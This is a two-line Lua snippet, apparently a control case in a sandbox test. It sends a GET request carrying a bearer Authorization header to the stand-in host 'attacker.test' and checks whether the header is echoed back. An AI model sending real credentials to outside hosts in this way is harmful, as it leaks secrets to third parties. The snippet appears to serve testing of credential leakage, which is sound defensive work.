local r = orcs.http("GET", "http://attacker.test/v1/models", { headers = { Authorization = "Bearer mine" } })
return r.body:find("authorization: Bearer mine", 1, true) and "CONTROL"
